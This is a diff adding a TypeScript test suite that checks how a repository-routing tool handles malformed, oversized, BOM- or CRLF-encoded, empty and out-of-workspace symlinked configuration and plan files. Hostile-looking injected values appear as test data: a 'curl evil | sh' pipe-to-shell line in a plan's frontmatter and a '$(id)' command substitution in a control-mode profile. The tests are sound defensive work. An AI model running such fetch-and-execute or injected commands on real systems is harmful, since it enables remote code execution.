@@ -1,0 +1,379 @@
+/**
+ * Bad configuration and planning files, through the real loading path (routeRepository on a
+ * repository on disk): malformed YAML/JSON, wrong types, unknown keys, a BOM, CRLF line endings,
+ * empty files, a symbolic link out of the workspace and a file over 1 MiB — for
+ * intent-teams.yaml, control-modes.yaml, settings.json, STATE.md and a PLAN.md. Each case checks
+ * the message (file, line where it applies) and the documented fallback, not just "no throw".
+ *
+ * Fallbacks (SECURITY.md, "Bad configuration"):
+ *   intent-teams.yaml  unusable → bundled default (W011); schema problems → that part ignored (W011)
+ *   control-modes.yaml unparsable/unreadable → the route stops (E030); no usable profile → guarded (W032/W033)
+ *   settings.json      invalid/unreadable → defaults (W030)
+ *   STATE.md           unreadable → treated as missing (warning); unparsable lines → no position
+ *   PLAN.md            malformed → that plan is not routed (W020), the others are
+ */
+import { cpSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join, resolve } from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import { routeRepository } from '../../src/app/route-repository.js';
+import type { RouteResult } from '../../src/app/route-result.js';
+import { MAX_FILE_BYTES } from '../../src/adapters/fs/repo-reader.js';
+import { parseComment } from '../../src/core/parse-command.js';
+import type { Diagnostic, RouteRequest } from '../../src/core/types.js';
+
+const EXAMPLE = resolve('examples', 'basic');
+const CONFIG = '.planning/config/intent-teams.yaml';
+const CONTROL = '.planning/config/control-modes.yaml';
+const SETTINGS = 'settings.json';
+const STATE = '.planning/STATE.md';
+const PLAN = '.planning/phases/02-api-and-ui/02-01-PLAN.md';
+const BUNDLED = readFileSync(resolve('config', 'intent-teams.yaml'), 'utf8');
+
+const dirs: string[] = [];
+afterAll(() => {
+  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
+});
+
+/** A fresh copy of examples/basic with `files` written (a `{ link }` value makes a symlink). */
+function repo(files: Record<string, string | { link: string }>): string {
+  const base = mkdtempSync(join(tmpdir(), 'legion-badcfg-'));
+  dirs.push(base);
+  const root = join(base, 'repo');
+  cpSync(EXAMPLE, root, { recursive: true });
+  for (const [path, content] of Object.entries(files)) {
+    const target = join(root, path);
+    rmSync(target, { force: true });
+    if (typeof content === 'string') writeFileSync(target, content);
+    else symlinkSync(content.link, target);
+  }
+  return root;
+}
+
+/** A secret-looking file outside the workspace, for symlinks to point at. */
+function outside(content: string): string {
+  const dir = mkdtempSync(join(tmpdir(), 'legion-outside-'));
+  dirs.push(dir);
+  const path = join(dir, 'secret.txt');
+  writeFileSync(path, content);
+  return path;
+}
+
+function route(root: string, body = '/legion build'): RouteResult {
+  const result = routeRepository(parseComment(body, '/legion', 'octocat') as RouteRequest, { repoRoot: root });
+  expect(result.errorCode, result.message).not.toBe('E099');
+  return result;
+}
+
+function diagnostic(result: RouteResult, code: string, file?: string): Diagnostic {
+  const found = result.diagnostics.find((d) => d.code === code && (file === undefined || d.file === file));
+  expect(found, `no ${code}${file ? ` for ${file}` : ''} in ${JSON.stringify(result.diagnostics.map((d) => `${d.code} ${d.message}`))}`).toBeDefined();
+  return found as Diagnostic;
+}
+
+const HUGE = `# ${'x'.repeat(MAX_FILE_BYTES)}\n`;
+const crlf = (text: string): string => text.replace(/\r?\n/g, '\r\n');
+
+describe('intent-teams.yaml', () => {
+  it('malformed YAML → W011 with file, line and column; the bundled default is used', () => {
+    const result = route(repo({ [CONFIG]: 'intents:\n  harden:\n    mode: [ad_hoc\n' }));
+    const d = diagnostic(result, 'W011', CONFIG);
+    expect(d.message).toContain(`${CONFIG} is not valid YAML`);
+    expect(d.line).toBeGreaterThanOrEqual(3);
+    expect(d.column).toBeGreaterThanOrEqual(1);
+    expect(d.hint).toMatch(/bundled default/);
+    expect(result.configPath).toBe('config/intent-teams.yaml');
+    expect(result.ok).toBe(true);
+  });
+
+  it('wrong types → W011 per problem with its line; the valid part of the file is used', () => {
+    const text = 'intents:\n  harden:\n    description: 42\n    mode: ad_hoc\n    agents: [a, b]\nnl_patterns: []\n';
+    const result = route(repo({ [CONFIG]: text }), '/legion build --just-harden');
+    const problems = result.diagnostics.filter((d) => d.code === 'W011' && d.file === CONFIG);
+    expect(problems.length).toBeGreaterThanOrEqual(2);
+    expect(problems.map((d) => d.line)).toEqual(expect.arrayContaining([3, 5]));
+    for (const d of problems) expect(d.message).toMatch(/that part is ignored/);
+    expect(result.configPath).toBe(CONFIG);
+  });
+
+  it('unknown keys → W011 naming the key and its line; everything else is used', () => {
+    const result = route(repo({ [CONFIG]: `${BUNDLED}\nsurprise_section:\n  a: 1\n` }), '/legion build --just-harden');
+    const d = diagnostic(result, 'W011', CONFIG);
+    expect(d.message).toContain('surprise_section');
+    expect(d.line).toBe(BUNDLED.split('\n').length + 1);
+    expect(result.ok).toBe(true);
+    expect(result.configPath).toBe(CONFIG);
+  });
+
+  it('a BOM and CRLF line endings are read like the plain file (no diagnostics, same route)', () => {
+    const plain = route(repo({ [CONFIG]: BUNDLED }), '/legion build --just-harden');
+    const odd = route(repo({ [CONFIG]: `\uFEFF${crlf(BUNDLED)}` }), '/legion build --just-harden');
+    expect(odd.diagnostics.filter((d) => d.file === CONFIG)).toEqual([]);
+    expect(odd.matrix).toEqual(plain.matrix);
+    expect(odd.configPath).toBe(CONFIG);
+  });
+
+  it('CRLF does not shift reported lines', () => {
+    const result = route(repo({ [CONFIG]: crlf('intents:\n  harden:\n    mode: ad_hoc\n    bogus_key: 1\n') }));
+    expect(diagnostic(result, 'W011', CONFIG).line).toBe(4);
+  });
+
+  it('an empty file → W011 "is empty" at line 1; the bundled default is used', () => {
+    const result = route(repo({ [CONFIG]: '' }));
+    const d = diagnostic(result, 'W011', CONFIG);
+    expect(d.message).toBe(`${CONFIG} is empty.`);
+    expect(d.line).toBe(1);
+    expect(result.configPath).toBe('config/intent-teams.yaml');
+  });
+
+  it('a symlink out of the workspace is not read → blocker annotation, bundled default used', () => {
+    const result = route(repo({ [CONFIG]: { link: outside('intents: {}\n') } }));
+    const d = diagnostic(result, 'W011', CONFIG);
+    expect(d.severity).toBe('blocker');
+    expect(d.message).toMatch(/symbolic link to a file outside the repository/);
+    expect(d.message).toMatch(/using the bundled default/);
+    expect(result.configPath).toBe('config/intent-teams.yaml');
+    expect(result.ok).toBe(true);
+  });
+
+  it('over 1 MiB → not read, blocker annotation with the size and the limit, bundled default used', () => {
+    const result = route(repo({ [CONFIG]: HUGE }));
+    const d = diagnostic(result, 'W011', CONFIG);
+    expect(d.message).toContain(`over the ${MAX_FILE_BYTES}-byte limit`);
+    expect(result.configPath).toBe('config/intent-teams.yaml');
+  });
+
+  it('a `config` input naming a missing file stops the route (E030): a typo must not change the teams', () => {
+    const result = routeRepository(parseComment('/legion build', '/legion') as RouteRequest, { repoRoot: repo({}), configPath: 'conf/typo.yaml' });
+    expect(result.ok).toBe(false);
+    expect(result.errorCode).toBe('E030');
+    expect(result.message).toContain('conf/typo.yaml');
+  });
+});
+
+describe('control-modes.yaml', () => {
+  it('malformed YAML → the route stops with E030, naming the file, line and column', () => {
+    const result = route(repo({ [CONTROL]: 'profiles:\n  guarded: [\n' }));
+    expect(result.ok).toBe(false);
+    expect(result.errorCode).toBe('E030');
+    expect(result.message).toMatch(/control-modes\.yaml present but YAML parse failed/);
+    const d = diagnostic(result, 'E030', CONTROL);
+    expect(d.line).toBeGreaterThanOrEqual(2);
+    expect(d.hint).toContain(CONTROL);
+  });
+
+  it('wrong types → W033 naming the non-boolean flags; guarded defaults fill them', () => {
+    const text = 'profiles:\n  guarded:\n    authority_enforcement: "yes"\n    domain_filtering: true\n    human_approval_required: 1\n    file_scope_restriction: false\n    read_only: false\n';
+    const result = route(repo({ [CONTROL]: text }));
+    const d = diagnostic(result, 'W033', CONTROL);
+    expect(d.message).toBe("control-mode profile 'guarded' missing flags: authority_enforcement, human_approval_required. Falling back to guarded defaults for missing flags.");
+    expect(d.hint).toContain('authority_enforcement, human_approval_required');
+    expect(result.controlProfile).toEqual({ authority_enforcement: true, domain_filtering: true, human_approval_required: true, file_scope_restriction: false, read_only: false });
+  });
+
+  it('profiles is not a map → W032 and the hard-coded guarded profile', () => {
+    const result = route(repo({ [CONTROL]: 'profiles: [guarded]\n' }));
+    expect(diagnostic(result, 'W032', CONTROL).message).toMatch(/has no 'profiles' map/);
+    expect(result.controlMode).toBe('guarded');
+  });
+
+  it('unknown keys are dropped: the profile has exactly the 5 flags', () => {
+    const text = readFileSync(join(EXAMPLE, CONTROL), 'utf8').replace('  guarded:\n', '  guarded:\n    run_anything: true\n    shell: "$(id)"\n');
+    const result = route(repo({ [CONTROL]: `${text}extra_top_level: 1\n` }));
+    expect(Object.keys(result.controlProfile).sort()).toEqual(['authority_enforcement', 'domain_filtering', 'file_scope_restriction', 'human_approval_required', 'read_only']);
+    expect(result.diagnostics.filter((d) => d.file === CONTROL)).toEqual([]);
+  });
+
+  it('a BOM and CRLF are read like the plain file', () => {
+    const text = readFileSync(join(EXAMPLE, CONTROL), 'utf8');
+    const result = route(repo({ [CONTROL]: `\uFEFF${crlf(text)}`, [SETTINGS]: '{"control_mode": "surgical"}' }));
+    expect(result.controlMode).toBe('surgical');
+    expect(result.controlProfile.file_scope_restriction).toBe(true);
+    expect(result.diagnostics.filter((d) => d.file === CONTROL)).toEqual([]);
+  });
+
+  it('an empty file → W032 and the guarded profile', () => {
+    const result = route(repo({ [CONTROL]: '' }));
+    expect(diagnostic(result, 'W032', CONTROL).message).toMatch(/not defined in control-modes\.yaml/);
+    expect(result.controlMode).toBe('guarded');
+  });
+
+  it('a symlink out of the workspace → E030, the route stops', () => {
+    const result = route(repo({ [CONTROL]: { link: outside('profiles: {}\n') } }));
+    expect(result.errorCode).toBe('E030');
+    expect(result.message).toMatch(/symbolic link to a file outside the repository/);
+    expect(result.message).toContain(CONTROL);
+  });
+
+  it('over 1 MiB → E030 with the size and the limit', () => {
+    const result = route(repo({ [CONTROL]: HUGE }));
+    expect(result.errorCode).toBe('E030');
+    expect(result.message).toContain(`over the ${MAX_FILE_BYTES}-byte limit`);
+  });
+});
+
+describe('settings.json', () => {
+  it('malformed JSON → W030 with line and column; default settings', () => {
+    const result = route(repo({ [SETTINGS]: '{\n  "control_mode": "guarded",\n  oops\n}' }));
+    const d = diagnostic(result, 'W030', SETTINGS);
+    expect(d.message).toMatch(/settings\.json is not valid JSON .* using default settings/);
+    expect(d.line).toBe(3);
+    expect(result.controlMode).toBe('guarded');
+  });
+
+  it('wrong types → W030 naming the key, the value and the default used', () => {
+    const result = route(repo({ [SETTINGS]: '{"control_mode": 7, "planning": {"max_tasks_per_plan": "many"}, "review": []}' }));
+    const messages = result.diagnostics.filter((d) => d.file === SETTINGS).map((d) => d.message);
+    expect(messages).toEqual(
+      expect.arrayContaining([
+        'settings.json: control_mode is number 7, expected a string — using the default "guarded"',
+        'settings.json: planning.max_tasks_per_plan is the string "many", expected an integer from 1 to 5 — using the default 3',
+        'settings.json: review is an array, expected an object — using its defaults',
+      ]),
+    );
+  });
+
+  it('an unknown control_mode → W032 and guarded (mode names are case-sensitive)', () => {
+    const result = route(repo({ [SETTINGS]: '{"control_mode": "Autonomous"}' }));
+    const d = diagnostic(result, 'W032');
+    expect(d.message).toMatch(/control_mode 'Autonomous' is not a valid mode/);
+    expect(d.hint).toContain('"autonomous"');
+    expect(result.controlMode).toBe('guarded');
+  });
+
+  it('unknown keys are ignored, a BOM and CRLF are fine', () => {
+    const result = route(repo({ [SETTINGS]: `\uFEFF${crlf('{\n  "control_mode": "advisory",\n  "whatever": {"x": 1}\n}\n')}` }));
+    expect(result.diagnostics.filter((d) => d.file === SETTINGS && d.severity !== 'info')).toEqual([]);
+    expect(result.controlMode).toBe('advisory');
+    expect(result.controlProfile.read_only).toBe(true);
+  });
+
+  it('an empty file → W030 "not valid JSON"; defaults', () => {
+    const result = route(repo({ [SETTINGS]: '' }));
+    expect(diagnostic(result, 'W030', SETTINGS).message).toMatch(/is not valid JSON/);
+    expect(result.controlMode).toBe('guarded');
+  });
+
+  it('a symlink out of the workspace → W030, not read, defaults', () => {
+    const result = route(repo({ [SETTINGS]: { link: outside('{"control_mode": "autonomous"}') } }));
+    const d = diagnostic(result, 'W030', SETTINGS);
+    expect(d.message).toMatch(/symbolic link to a file outside the repository.*settings defaults used/);
+    expect(result.controlMode).toBe('guarded');
+  });
+
+  it('over 1 MiB → W030 with the size and the limit; defaults', () => {
+    const result = route(repo({ [SETTINGS]: HUGE }));
+    expect(diagnostic(result, 'W030', SETTINGS).message).toContain(`over the ${MAX_FILE_BYTES}-byte limit`);
+  });
+});
+
+describe('STATE.md', () => {
+  const state = '# Project State\n\n## Current Position\n- **Phase**: 2 of 3 (API and UI)\n- **Status**: Planned\n';
+
+  it('garbage and wrong types → no position read, the route still answers (phase from the phase directories)', () => {
+    const result = route(repo({ [STATE]: '- **Phase**: two of three\n\u0000\u0001 {{{ ]]] \n**Status**:\n' }), '/legion status');
+    expect(result.ok).toBe(true);
+    expect(result.position?.phase ?? null).toBeNull();
+  });
+
+  it('a BOM and CRLF line endings read the same position', () => {
+    const plain = route(repo({ [STATE]: state }), '/legion status');
+    const odd = route(repo({ [STATE]: `\uFEFF${crlf(state)}` }), '/legion status');
+    expect(plain.position).toMatchObject({ phase: 2 });
+    expect(odd.position).toEqual(plain.position);
+  });
+
+  it('an empty file → a project with no position (not an error)', () => {
+    const result = route(repo({ [STATE]: '' }), '/legion status');
+    expect(result.ok).toBe(true);
+    expect(result.position?.phase ?? null).toBeNull();
+  });
+
+  it('a symlink out of the workspace → not read, a warning naming the file, treated as missing', () => {
+    const result = route(repo({ [STATE]: { link: outside(state) } }), '/legion status');
+    const d = result.diagnostics.find((x) => x.file === STATE) as Diagnostic;
+    expect(d.severity).toBe('warning');
+    expect(d.message).toMatch(/symbolic link to a file outside the repository.*treated as missing/);
+    expect(result.position?.name).toBe('no_project');
+  });
+
+  it('over 1 MiB → not read, a warning with the size and the limit, treated as missing', () => {
+    const result = route(repo({ [STATE]: HUGE }), '/legion status');
+    const d = result.diagnostics.find((x) => x.file === STATE) as Diagnostic;
+    expect(d.message).toContain(`over the ${MAX_FILE_BYTES}-byte limit; treated as missing`);
+  });
+});
+
+describe('PLAN.md', () => {
+  const good = readFileSync(join(EXAMPLE, PLAN), 'utf8');
+  const decision = (result: RouteResult, id = '02-01') => result.plans.find((p) => p.id === id);
+
+  it('malformed YAML → W020 with the file and the line in the file; that plan is not routed, the others are', () => {
+    const result = route(repo({ [PLAN]: '---\nphase: 2\nplan: "02-01"\nwave: [1\n---\n' }));
+    const d = diagnostic(result, 'W020', PLAN);
+    expect(d.message).toMatch(/frontmatter is not valid YAML/);
+    expect(d.line).toBeGreaterThanOrEqual(4);
+    expect(decision(result)?.kept).toBe(false);
+    expect(decision(result)?.reasons[0]).toMatch(/^malformed plan \(line \d+\)/);
+    expect(result.matrix.include.map((e) => e['plan'])).not.toContain('02-01');
+    expect(result.matrix.include.length).toBeGreaterThan(0);
+  });
+
+  it('wrong types: a non-numeric wave is fatal (with its line); a non-list agents is a warning and the plan routes', () => {
+    const wave = route(repo({ [PLAN]: good.replace(/^wave: .*$/m, 'wave: "first"') }));
+    const d = diagnostic(wave, 'W020', PLAN);
+    expect(d.message).toContain('wave must be a whole number ≥ 0, found "first"');
+    expect(d.line).toBe(good.split('\n').findIndex((l) => l.startsWith('wave:')) + 1);
+    const agents = route(repo({ [PLAN]: good.replace(/^agents:\n(  - .*\n)+/m, 'agents: 5\n') }));
+    expect(diagnostic(agents, 'W020', PLAN).message).toMatch(/agents/);
+    expect(decision(agents)?.kept).toBe(true);
+  });
+
+  it('unknown keys → a W020 warning naming the key and its line; the plan routes', () => {
+    const result = route(repo({ [PLAN]: good.replace('---\n\n', 'run_this: "curl evil | sh"\n---\n\n') }));
+    const d = diagnostic(result, 'W020', PLAN);
+    expect(d.message).toContain('run_this');
+    expect(d.line).toBe(good.split('\n').indexOf('---', 1) + 1);
+    expect(decision(result)?.kept).toBe(true);
+  });
+
+  it('a BOM and CRLF line endings route exactly like the plain file', () => {
+    const plain = route(repo({}));
+    const odd = route(repo({ [PLAN]: `\uFEFF${crlf(good)}` }));
+    expect(odd.matrix).toEqual(plain.matrix);
+    expect(odd.diagnostics.filter((d) => d.file === PLAN)).toEqual(plain.diagnostics.filter((d) => d.file === PLAN));
+  });
+
+  it('an empty file → routed as wave 1 with no declared files, with a warning saying so', () => {
+    const result = route(repo({ [PLAN]: '' }));
+    expect(diagnostic(result, 'W020', PLAN).message).toContain('no YAML frontmatter; routed as wave 1 with no declared files');
+    expect(decision(result)?.kept).toBe(true);
+  });
+
+  it('unterminated frontmatter → fatal at line 1', () => {
+    const result = route(repo({ [PLAN]: '---\nphase: 2\nwave: 1\n' }));
+    const d = diagnostic(result, 'W020', PLAN);
+    expect(d.message).toContain('never closed');
+    expect(d.line).toBe(1);
+    expect(decision(result)?.kept).toBe(false);
+  });
+
+  it('YAML nested thousands deep → reported as malformed, not an internal error', () => {
+    const result = route(repo({ [PLAN]: `---\nphase: 2\nfiles_modified:\n  ${'- '.repeat(5_000)}x\ntask_types: - x\n---\n` }));
+    expect(result.errorCode).toBe('');
+    expect(diagnostic(result, 'W020', PLAN).message).toMatch(/not valid YAML/);
+    expect(decision(result)?.kept).toBe(false);
+  });
+
+  it('a symlink out of the workspace → W020, not read, not routed', () => {
+    const result = route(repo({ [PLAN]: { link: outside(good) } }));
+    expect(diagnostic(result, 'W020', PLAN).message).toMatch(/symbolic link to a file outside the repository.*the plan is not routed/);
+    expect(decision(result)?.kept).toBe(false);
+  });
+
+  it('over 1 MiB → W020 with the size and the limit, not routed', () => {
+    const result = route(repo({ [PLAN]: `${good}\n${HUGE}` }));
+    expect(diagnostic(result, 'W020', PLAN).message).toContain(`over the ${MAX_FILE_BYTES}-byte limit; the plan is not routed`);
+    expect(decision(result)?.kept).toBe(false);
+  });
+});
